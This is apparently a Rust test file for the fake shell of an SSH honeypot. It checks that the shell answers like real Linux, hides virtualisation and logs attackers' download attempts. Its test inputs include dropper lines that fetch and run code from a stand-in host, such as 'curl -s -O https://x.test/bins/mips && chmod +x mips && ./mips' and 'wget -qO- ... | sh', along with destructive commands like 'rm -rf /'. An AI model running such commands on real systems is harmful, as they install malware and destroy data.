//! Shell Tests
//!
//! Whole-line behaviour of the interpreter against each persona's image:
//! command-not-found text, hardware inspection, download reporting, chaining and
//! the filesystem commands.

use std::sync::Arc;
use std::time::Duration;

use proptest::prelude::*;
use rand::SeedableRng;
use rand::rngs::StdRng;

use crate::events::{EventContext, EventKind, MemorySink};
use crate::persona;
use crate::session::SessionId;
use crate::shell::{Interpreter, Outcome, ShellContext};
use crate::vfs::{FsTree, VirtualFs};

const PEER: &str = "203.0.113.9:40022";

// ============================================================================
// Helpers
// ============================================================================

fn context_with_seed(persona_name: &str, user: &str, sink: Arc<MemorySink>, seed: u64) -> ShellContext {
    let persona = persona::find(persona_name).unwrap();
    let fs = VirtualFs::new(Arc::new(FsTree::for_persona(persona)));
    let events = EventContext::new(SessionId::from_raw(1), PEER.parse().unwrap(), sink);
    ShellContext::new(user, fs, events, StdRng::seed_from_u64(seed))
}

fn context(persona_name: &str, user: &str) -> (ShellContext, Arc<MemorySink>) {
    let sink = Arc::new(MemorySink::new());
    (context_with_seed(persona_name, user, sink.clone(), 42), sink)
}

fn run(ctx: &mut ShellContext, line: &str) -> Outcome {
    Interpreter::new(Duration::ZERO).run_line(line, ctx)
}

fn download_urls(sink: &MemorySink) -> Vec<String> {
    sink.events()
        .into_iter()
        .filter_map(|e| match e.kind {
            EventKind::MalwareDownload { url, .. } => Some(url),
            _ => None,
        })
        .collect()
}

// ============================================================================
// Dispatch
// ============================================================================

#[test]
fn test_unknown_command() {
    let (mut ctx, _) = context("raspberry-pi", "root");
    let out = run(&mut ctx, "zzz");
    assert_eq!(out.output, "bash: zzz: command not found");
    assert_eq!(out.status, 127);
}

#[test]
fn test_unknown_command_echoes_name_as_typed() {
    let (mut ctx, _) = context("raspberry-pi", "root");
    let out = run(&mut ctx, "ZZZ");
    assert_eq!(out.output, "bash: ZZZ: command not found");
    assert_eq!(out.status, 127);
    let mixed = run(&mut ctx, "NotACmd -x");
    assert_eq!(mixed.output, "bash: NotACmd: command not found");
}

proptest! {
    #[test]
    fn unknown_command_ignores_arguments(args in "[a-z0-9 ./-]{0,24}") {
        let (mut ctx, _) = context("raspberry-pi", "root");
        let out = run(&mut ctx, &format!("zzz {}", args));
        prop_assert_eq!(out.output, "bash: zzz: command not found");
        prop_assert_eq!(out.status, 127);
    }
}

#[test]
fn test_command_name_is_case_insensitive() {
    let (mut ctx, _) = context("raspberry-pi", "root");
    assert_eq!(run(&mut ctx, "WHOAMI").output, "root");
}

#[test]
fn test_identity_follows_login() {
    let (mut ctx, _) = context("ubuntu-server", "admin");
    assert_eq!(run(&mut ctx, "whoami").output, "admin");
    assert!(run(&mut ctx, "id").output.starts_with("uid=1000(admin)"));
    assert_eq!(run(&mut ctx, "sudo whoami").output, "root");
    assert_eq!(run(&mut ctx, "sudo -u root id -u").output, "0");
    assert_eq!(run(&mut ctx, "whoami").output, "admin");
    assert!(run(&mut ctx, "sudo -l").output.contains("(ALL : ALL) NOPASSWD: ALL"));
}

#[test]
fn test_sudo_login_shell_switches_to_root() {
    let (mut ctx, _) = context("ubuntu-server", "admin");
    run(&mut ctx, "sudo -i");
    assert_eq!(run(&mut ctx, "whoami").output, "root");
    assert!(ctx.prompt().ends_with("# "));
}

#[test]
fn test_uname_fields() {
    for p in ["raspberry-pi", "ubuntu-server", "generic-iot"] {
        let persona = persona::find(p).unwrap();
        let (mut ctx, _) = context(p, "root");
        assert_eq!(run(&mut ctx, "uname -a").output, persona.kernel);
        assert_eq!(run(&mut ctx, "uname").output, "Linux");
        assert_eq!(run(&mut ctx, "uname -r").output, persona.kernel_release());
        assert_eq!(run(&mut ctx, "uname -m").output, persona.arch.as_str());
    }
    let (mut ctx, _) = context("raspberry-pi", "root");
    assert_eq!(run(&mut ctx, "uname -m -n -s").output, "Linux raspberrypi armv7l");
    let bad = run(&mut ctx, "uname -z");
    assert_eq!(bad.status, 1);
    assert!(bad.output.starts_with("uname: invalid option -- 'z'"));
}

#[test]
fn test_path_commands() {
    let (mut ctx, _) = context("raspberry-pi", "root");
    assert!(run(&mut ctx, "/bin/ls /").output.contains("etc"));
    let missing = run(&mut ctx, "./payload");
    assert_eq!(missing.output, "bash: ./payload: No such file or directory");
    assert_eq!(missing.status, 127);
    let denied = run(&mut ctx, "/etc/passwd");
    assert_eq!(denied.output, "bash: /etc/passwd: Permission denied");
    assert_eq!(denied.status, 126);
}

// ============================================================================
// Hardware Inspection
// ============================================================================

#[test]
fn test_pci_tools_missing_without_pci_bus() {
    for p in ["raspberry-pi", "generic-iot"] {
        let (mut ctx, _) = context(p, "root");
        for cmd in ["lspci", "lspci -v", "dmidecode", "dmidecode -s system-product-name"] {
            let name = cmd.split(' ').next().unwrap();
            let out = run(&mut ctx, cmd);
            assert_eq!(out.output, format!("bash: {}: command not found", name));
            assert_eq!(out.status, 127);
        }
    }
}

#[test]
fn test_x86_hardware_is_physical() {
    let (mut ctx, _) = context("ubuntu-server", "root");
    let pci = run(&mut ctx, "lspci").output;
    assert!(pci.contains("I219-LM"));
    assert!(!pci.to_lowercase().contains("virtio"));
    assert_eq!(run(&mut ctx, "dmidecode -s system-product-name").output, "OptiPlex 7060");
    let table = run(&mut ctx, "dmidecode").output;
    assert!(table.contains("Manufacturer: Dell Inc."));
    assert!(!table.contains("QEMU") && !table.contains("VMware"));
}

#[test]
fn test_detect_virt_reports_none() {
    for p in ["raspberry-pi", "ubuntu-server", "generic-iot"] {
        let (mut ctx, _) = context(p, "root");
        assert_eq!(run(&mut ctx, "systemd-detect-virt").output, "none");
    }
}

#[test]
fn test_dmesg_requires_root() {
    let (mut ctx, _) = context("ubuntu-server", "admin");
    let out = run(&mut ctx, "dmesg");
    assert_eq!(out.output, "dmesg: read kernel buffer failed: Operation not permitted");
    assert_eq!(out.status, 1);
    let root = run(&mut ctx, "sudo dmesg").output;
    assert!(root.contains("Linux version 5.4.0-84-generic"));
    assert!(!root.to_lowercase().contains("hypervisor"));
}

// ============================================================================
// Downloads
// ============================================================================

#[test]
fn test_wget_reports_one_download() {
    let (mut ctx, sink) = context("raspberry-pi", "root");
    let out = run(&mut ctx, "wget http://x.test/a");
    assert_eq!(out.status, 0);
    assert!(out.output.contains("‘a’ saved"));
    assert_eq!(download_urls(&sink), vec!["http://x.test/a"]);
}

#[test]
fn test_curl_reports_one_download() {
    let (mut ctx, sink) = context("raspberry-pi", "root");
    let out = run(&mut ctx, "curl http://x.test/a");
    assert_eq!(out.output, "");
    assert_eq!(download_urls(&sink), vec!["http://x.test/a"]);
    match &sink.events()[0].kind {
        EventKind::MalwareDownload { command, .. } => assert_eq!(command, "curl http://x.test/a"),
        other => panic!("unexpected event {:?}", other),
    }
    assert_eq!(sink.events()[0].peer_ip.to_string(), "203.0.113.9");
}

#[test]
fn test_every_download_in_a_line_is_seen() {
    let (mut ctx, sink) = context("generic-iot", "admin");
    run(&mut ctx, "wget http://x.test/a; wget http://x.test/b");
    assert_eq!(download_urls(&sink), vec!["http://x.test/a", "http://x.test/b"]);

    sink.clear();
    run(
        &mut ctx,
        "cd /tmp || cd /var/tmp; curl -s -O https://x.test/bins/mips && chmod +x mips && ./mips",
    );
    assert_eq!(download_urls(&sink), vec!["https://x.test/bins/mips"]);
}

#[test]
fn test_download_to_stdout_piped_into_shell() {
    let (mut ctx, sink) = context("raspberry-pi", "root");
    let out = run(&mut ctx, "wget -qO- http://x.test/install.sh | sh");
    assert_eq!(out.output, "");
    assert_eq!(out.status, 0);
    assert_eq!(sink.count("malware-download"), 1);
}

#[test]
fn test_download_without_url() {
    let (mut ctx, sink) = context("raspberry-pi", "root");
    assert!(run(&mut ctx, "wget").output.starts_with("wget: missing URL"));
    assert_eq!(sink.count("malware-download"), 0);
}

// ============================================================================
// Chaining, Pipelines, Redirection
// ============================================================================

#[test]
fn test_chain_operators() {
    let (mut ctx, _) = context("raspberry-pi", "root");
    assert_eq!(run(&mut ctx, "ls /nope && echo yes || echo no").output.lines().last(), Some("no"));
    assert_eq!(run(&mut ctx, "echo a; echo b").output, "a\nb");
    assert_eq!(run(&mut ctx, "pwd && echo ok").output, "/root\nok");
}

#[test]
fn test_pipeline_feeds_grep() {
    let (mut ctx, _) = context("raspberry-pi", "root");
    let out = run(&mut ctx, "cat /etc/passwd | grep root");
    assert!(out.output.starts_with("root:x:0:0"));
    let count = run(&mut ctx, "cat /proc/cpuinfo | grep -c processor");
    assert_eq!(count.output, "2");
}

#[test]
fn test_redirect_discards_output() {
    let (mut ctx, _) = context("raspberry-pi", "root");
    let out = run(&mut ctx, "echo hi > /tmp/x");
    assert_eq!(out.output, "");
    assert_eq!(run(&mut ctx, "cat /tmp/x").output, "cat: /tmp/x: No such file or directory");
}

#[test]
fn test_exit_ends_session_only_outside_pipeline() {
    let (mut ctx, _) = context("raspberry-pi", "root");
    assert!(!run(&mut ctx, "echo hi | exit").exit);
    assert!(run(&mut ctx, "logout").exit);
    let out = run(&mut ctx, "echo bye; exit; echo never");
    assert!(out.exit);
    assert_eq!(out.output, "bye");
}

#[test]
fn test_variables_expand() {
    let (mut ctx, _) = context("raspberry-pi", "root");
    assert_eq!(run(&mut ctx, "echo $HOME $USER").output, "/root root");
    run(&mut ctx, "export FOO=bar");
    assert_eq!(run(&mut ctx, "echo ${FOO}").output, "bar");
    run(&mut ctx, "zzz");
    assert_eq!(run(&mut ctx, "echo $?").output, "127");
}

// ============================================================================
// Filesystem
// ============================================================================

#[test]
fn test_cd_errors() {
    let (mut ctx, _) = context("raspberry-pi", "root");
    assert_eq!(
        run(&mut ctx, "cd /etc/passwd").output,
        "bash: cd: /etc/passwd: Not a directory"
    );
    assert_eq!(
        run(&mut ctx, "cd /nope").output,
        "bash: cd: /nope: No such file or directory"
    );
    run(&mut ctx, "cd /var/log");
    assert_eq!(run(&mut ctx, "pwd").output, "/var/log");
    run(&mut ctx, "cd ..");
    assert_eq!(run(&mut ctx, "pwd").output, "/var");
    run(&mut ctx, "cd");
    assert_eq!(run(&mut ctx, "pwd").output, "/root");
}

#[test]
fn test_ls_hides_dotfiles() {
    let (mut ctx, _) = context("raspberry-pi", "root");
    assert!(!run(&mut ctx, "ls ~").output.contains(".bashrc"));
    assert!(run(&mut ctx, "ls -a ~").output.contains(".bashrc"));
    let long = run(&mut ctx, "ls -l /etc").output;
    assert!(long.starts_with("total "));
    assert!(long.contains("-rw-r----- 1 root shadow") || long.contains("-rw-r----- 1 root root"));
}

#[test]
fn test_cat_files() {
    let (mut ctx, _) = context("raspberry-pi", "root");
    assert_eq!(run(&mut ctx, "cat /etc/hostname").output, "raspberrypi");
    assert_eq!(run(&mut ctx, "cat /etc").output, "cat: /etc: Is a directory");
    assert!(run(&mut ctx, "cat /proc/cpuinfo").output.contains("BCM2835"));
}

#[test]
fn test_shadow_needs_root() {
    let (mut ctx, _) = context("ubuntu-server", "admin");
    assert_eq!(run(&mut ctx, "cat /etc/shadow").output, "cat: /etc/shadow: Permission denied");
    assert!(run(&mut ctx, "sudo cat /etc/shadow").output.starts_with("root:$6$"));
}

#[test]
fn test_find_by_name() {
    let (mut ctx, _) = context("raspberry-pi", "root");
    let out = run(&mut ctx, "find /etc -name passwd");
    assert_eq!(out.output, "/etc/passwd");
}

#[test]
fn test_which() {
    let (mut ctx, _) = context("raspberry-pi", "root");
    assert_eq!(run(&mut ctx, "which wget").output, "/usr/bin/wget");
    let missing = run(&mut ctx, "which lspci");
    assert_eq!(missing.output, "");
    assert_eq!(missing.status, 1);
}

// ============================================================================
// System Tables
// ============================================================================

#[test]
fn test_seeded_rng_makes_tables_deterministic() {
    let sink = Arc::new(MemorySink::new());
    let mut a = context_with_seed("ubuntu-server", "root", sink.clone(), 1234);
    let mut b = context_with_seed("ubuntu-server", "root", sink, 1234);
    for cmd in ["free", "free -h", "df -h", "ifconfig"] {
        assert_eq!(run(&mut a, cmd).output, run(&mut b, cmd).output, "{}", cmd);
    }
    let load_a = run(&mut a, "uptime").output;
    let load_b = run(&mut b, "uptime").output;
    let tail = |s: &str| s.split("load average:").nth(1).map(str::to_string);
    assert_eq!(tail(&load_a), tail(&load_b));
}

#[test]
fn test_seeded_rng_makes_proc_files_deterministic() {
    let sink = Arc::new(MemorySink::new());
    let mut a = context_with_seed("raspberry-pi", "root", sink.clone(), 77);
    let mut b = context_with_seed("raspberry-pi", "root", sink, 77);
    for cmd in ["cat /proc/meminfo", "cat /proc/loadavg", "grep Mem /proc/meminfo"] {
        let out = run(&mut a, cmd).output;
        assert!(!out.is_empty(), "{}", cmd);
        assert_eq!(out, run(&mut b, cmd).output, "{}", cmd);
    }
}

#[test]
fn test_free_matches_persona_memory() {
    let (mut ctx, _) = context("raspberry-pi", "root");
    let out = run(&mut ctx, "free").output;
    let mem = out.lines().nth(1).unwrap();
    assert!(mem.starts_with("Mem:"));
    assert_eq!(mem.split_whitespace().nth(1), Some("949248"));
    let swap = out.lines().nth(2).unwrap();
    assert_eq!(swap.split_whitespace().nth(1), Some("102396"));
}

#[test]
fn test_df_lists_persona_mounts() {
    let (mut ctx, _) = context("raspberry-pi", "root");
    let out = run(&mut ctx, "df -h").output;
    assert!(out.contains("/dev/root"));
    assert!(out.contains("/boot"));
}

#[test]
fn test_network_tables_match_persona() {
    let (mut ctx, _) = context("raspberry-pi", "root");
    let ifconfig = run(&mut ctx, "ifconfig").output;
    assert!(ifconfig.contains("inet 192.168.1.47"));
    assert!(ifconfig.contains("ether b8:27:eb:3a:12:34"));
    assert!(run(&mut ctx, "ip a").output.contains("inet 192.168.1.47/24"));
    assert!(run(&mut ctx, "ip route").output.starts_with("default via 192.168.1.1 dev eth0"));
    assert_eq!(run(&mut ctx, "ip bogus").status, 255);
}

#[test]
fn test_sockets_include_attacker_connection() {
    let (mut ctx, _) = context("raspberry-pi", "root");
    let netstat = run(&mut ctx, "netstat -tn").output;
    assert!(netstat.contains("192.168.1.47:22"));
    assert!(netstat.contains("203.0.113.9:40022"));
    assert!(netstat.contains("ESTABLISHED"));
    let listening = run(&mut ctx, "netstat -tlnp").output;
    assert!(listening.contains("0.0.0.0:22"));
    assert!(!listening.contains("ESTABLISHED"));
    assert!(run(&mut ctx, "ss -tan").output.contains("203.0.113.9:40022"));
}

#[test]
fn test_ping_count() {
    let (mut ctx, _) = context("raspberry-pi", "root");
    let out = run(&mut ctx, "ping -c 2 8.8.8.8").output;
    assert_eq!(out.matches("icmp_seq=").count(), 2);
    assert!(out.contains("2 packets transmitted, 2 received, 0% packet loss"));
    assert_eq!(run(&mut ctx, "ping").status, 2);
}

#[test]
fn test_ps_shows_login_shell() {
    let (mut ctx, _) = context("raspberry-pi", "root");
    let pid = ctx.pid.to_string();
    let out = run(&mut ctx, "ps aux").output;
    assert!(out.contains("sshd: root@pts/0"));
    assert!(out.lines().any(|l| l.contains("-bash") && l.contains(&pid)));
    assert!(run(&mut ctx, "ps").output.contains("bash"));
}

#[test]
fn test_history_lists_session_lines() {
    let (mut ctx, _) = context("raspberry-pi", "root");
    run(&mut ctx, "whoami");
    run(&mut ctx, "uname -a");
    let out = run(&mut ctx, "history").output;
    assert_eq!(out, "    1  whoami\n    2  uname -a\n    3  history");
}

#[test]
fn test_mutators_accept_and_forget() {
    let (mut ctx, _) = context("raspberry-pi", "root");
    for cmd in ["chmod 777 /tmp/x", "rm -rf /", "mkdir /tmp/.x", "touch /tmp/y", "kill -9 1"] {
        let out = run(&mut ctx, cmd);
        assert_eq!(out.output, "", "{}", cmd);
        assert_eq!(out.status, 0, "{}", cmd);
    }
    assert!(run(&mut ctx, "ls /").output.contains("etc"));
    assert_eq!(run(&mut ctx, "rm").status, 1);
}
